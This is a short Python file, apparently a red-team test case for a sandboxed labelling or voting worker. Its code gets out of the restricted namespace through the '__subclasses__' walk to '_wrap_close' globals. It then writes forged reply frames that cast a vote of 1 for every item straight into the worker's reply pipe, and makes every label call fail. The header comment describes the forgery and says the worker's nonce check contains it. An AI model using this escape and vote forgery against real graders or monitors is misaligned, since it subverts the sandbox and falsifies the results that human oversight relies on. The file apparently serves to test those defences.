# With the static check off: at load time, writes whole reply frames that vote 1 for every item
# of the next batches into its reply pipe, in the old frame format (4-byte big-endian length,
# b"R", votes, errors) and in a guess at a newer one (8-byte length), then fails every call:
# a reader that takes the first frame it finds counts forged, in-range votes.
# Contained by the reply frame naming the worker's nonce for the request it answers.
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


g = _os_globals()
body = b"R" + bytes([1]) * 4 + bytes(4)
for _ in range(4):
    g["write"](4, len(body).to_bytes(4, "big") + body)
    g["write"](4, len(body).to_bytes(8, "little") + body)


def label(text):
    raise RuntimeError("every vote was forged")
